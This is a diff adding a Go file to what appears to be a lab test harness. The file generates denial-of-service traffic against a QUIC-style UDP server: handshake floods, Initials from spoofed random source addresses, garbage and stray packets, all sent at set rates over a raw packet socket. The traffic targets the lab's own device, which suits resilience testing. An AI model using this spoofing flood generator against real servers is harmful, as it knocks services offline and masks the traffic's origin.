@@ -1,0 +1,236 @@
+package lab
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"math/rand/v2"
+	"net/netip"
+	"slices"
+	"sync"
+	"sync/atomic"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+// Attack is a kind of attack.
+type Attack string
+
+// The attacks.
+const (
+	Handshakes Attack = "handshakes from few sources" // real ClientHellos, beyond the quota
+	Initials   Attack = "Initials from random sources"
+	Garbage    Attack = "garbage"     // random bytes
+	Strays     Attack = "unknown IDs" // short headers
+	Flood      Attack = "ten times"   // the clients' packet rate, of all kinds
+)
+
+// Attacks are all of them.
+var Attacks = []Attack{Handshakes, Initials, Garbage, Strays, Flood}
+
+const (
+	etherIP  = 14
+	etherUDP = etherIP + 20
+	etherAll = etherUDP + 8
+	// opening is how many different first packets there are. A server keeps what it begins for five seconds.
+	opening = 1 << 14
+)
+
+// openings are datagrams that open connections.
+var openings = sync.OnceValues(func() (all [][]byte, err error) {
+	hello, err := clientHello()
+	if err != nil {
+		return nil, err
+	}
+	for range opening {
+		p, err := initial(rand.Uint64(), hello)
+		if err != nil {
+			return nil, err
+		}
+		all = append(all, p)
+	}
+	return all, nil
+})
+
+// Attacker sends the packets of an attack at a rate, from the attackers' device.
+type Attacker struct {
+	Sent atomic.Uint64
+
+	fd     int
+	index  int
+	head   [etherAll]byte
+	random *rand.Rand
+	open   [][]byte
+	next   int
+}
+
+// NewAttacker prepares attacks.
+func (l *Lab) NewAttacker() (*Attacker, error) {
+	a := &Attacker{random: rand.New(rand.NewPCG(1, 2)), index: l.AttackDev.Index}
+	var err error
+	if a.open, err = openings(); err != nil {
+		return nil, err
+	}
+	err = l.Attacker.Do(func() error {
+		a.fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
+		return err
+	})
+	if err != nil {
+		return nil, err
+	}
+	if err := unix.Bind(a.fd, &unix.SockaddrLinklayer{Ifindex: a.index}); err != nil {
+		return nil, errors.Join(err, unix.Close(a.fd))
+	}
+	copy(a.head[0:], l.AttackedDev.MAC)
+	copy(a.head[6:], l.AttackDev.MAC)
+	a.head[12] = 0x08
+	ip := a.head[etherIP:]
+	ip[0], ip[6], ip[8], ip[9] = 0x45, 0x40, 64, unix.IPPROTO_UDP
+	copy(ip[16:], Addr.AsSlice())
+	return a, nil
+}
+
+// Close ends the attacker.
+func (a *Attacker) Close() error { return unix.Close(a.fd) }
+
+// anySource is a random address of somebody else.
+func (a *Attacker) anySource() netip.Addr {
+	r := a.random.Uint32()
+	return netip.AddrFrom4([4]byte{byte(11 + r%80), byte(r >> 8), byte(r >> 16), byte(1 + r>>24%250)})
+}
+
+func (a *Attacker) bytes(n int) []byte {
+	b := make([]byte, n, n+8)
+	for i := 0; i < n; i += 8 {
+		binary.NativeEndian.PutUint64(b[i:min(i+8, n+8)][:8:8], a.random.Uint64())
+	}
+	return b
+}
+
+// packet is the next one of an attack: where it comes from, and what is in it.
+func (a *Attacker) packet(kind Attack) (netip.Addr, []byte) {
+	switch kind {
+	case Handshakes, Initials:
+		p := a.open[a.next%len(a.open)]
+		a.next++
+		if kind == Handshakes {
+			return attackerAddr(a.next % fewSources), p
+		}
+		return a.anySource(), p
+	case Strays:
+		p := a.bytes(40 + 8*a.random.IntN(20))
+		p[0] = 0x40 | p[0]&0x3f
+		return a.anySource(), p
+	case Garbage:
+		return a.anySource(), a.bytes(8 + 8*a.random.IntN(140))
+	}
+	if a.random.IntN(16) == 0 {
+		return a.packet(Initials)
+	}
+	return a.packet([]Attack{Strays, Garbage}[a.random.IntN(2)])
+}
+
+// frame puts a frame together.
+func (a *Attacker) frame(buf []byte, kind Attack) []byte {
+	from, payload := a.packet(kind)
+	f := append(append(buf[:0], a.head[:]...), payload...)
+	ip := f[etherIP:]
+	binary.BigEndian.PutUint16(ip[2:], uint16(len(f)-etherIP))
+	copy(ip[12:], from.AsSlice())
+	var sum uint32
+	for i := 0; i < 20; i += 2 {
+		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
+	}
+	for sum > 0xffff {
+		sum = sum>>16 + sum&0xffff
+	}
+	binary.BigEndian.PutUint16(ip[10:], ^uint16(sum))
+	udp := f[etherUDP:] // without a checksum
+	binary.BigEndian.PutUint16(udp[0:], uint16(1024+a.random.IntN(60000)))
+	binary.BigEndian.PutUint16(udp[2:], Port)
+	binary.BigEndian.PutUint16(udp[4:], uint16(len(f)-etherUDP))
+	return f
+}
+
+// batch is how many packets a system call sends.
+const batch = 16
+
+// mmsghdr is struct mmsghdr.
+type mmsghdr struct {
+	header unix.Msghdr
+	_      uint32
+	_      uint32
+}
+
+// Run attacks at so many packets a second until ctx ends.
+func (a *Attacker) Run(ctx context.Context, kind Attack, rate float64) error {
+	var frames [batch][]byte
+	var vectors [batch]unix.Iovec
+	var messages [batch]mmsghdr
+	begin := time.Now()
+	for sent := 0; ctx.Err() == nil; {
+		due := int(time.Since(begin).Seconds() * rate)
+		if due-sent < batch {
+			time.Sleep(time.Duration(batch / rate * float64(time.Second)))
+			continue
+		}
+		if due-sent > 64*batch { // it was held up: what is late isn't sent
+			sent = due - batch
+		}
+		for i := range messages {
+			frames[i] = a.frame(frames[i], kind)
+			vectors[i].Base = &frames[i][0]
+			vectors[i].SetLen(len(frames[i]))
+			messages[i].header.Iov = &vectors[i]
+			messages[i].header.SetIovlen(1)
+		}
+		n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(a.fd), uintptr(unsafe.Pointer(&messages[0])), batch, 0, 0, 0)
+		if errno != 0 && errno != unix.ENOBUFS && errno != unix.EINTR && errno != unix.EAGAIN {
+			return fmt.Errorf("attack: %w", errno)
+		}
+		if errno == 0 {
+			a.Sent.Add(uint64(n))
+		}
+		sent += batch
+	}
+	return nil
+}
+
+// Rates are packets a second, by attack.
+type Rates map[Attack]float64
+
+// Attack runs attacks at the same time until stop is called, which returns the number of packets that were sent.
+func (l *Lab) Attack(rates Rates) (stop func() (uint64, error), err error) {
+	ctx, cancel := context.WithCancel(context.Background())
+	var wait sync.WaitGroup
+	var all []*Attacker
+	errs := make([]error, 0, len(rates))
+	var mu sync.Mutex
+	for kind, rate := range rates {
+		a, err := l.NewAttacker()
+		if err != nil {
+			cancel()
+			wait.Wait()
+			return nil, err
+		}
+		all = append(all, a)
+		wait.Go(func() {
+			err := a.Run(ctx, kind, rate)
+			mu.Lock()
+			errs = append(errs, err)
+			mu.Unlock()
+		})
+	}
+	return func() (sent uint64, err error) {
+		cancel()
+		wait.Wait()
+		for _, a := range all {
+			sent += a.Sent.Load()
+			errs = append(errs, a.Close())
+		}
+		return sent, errors.Join(slices.Clone(errs)...)
+	}, nil
+}
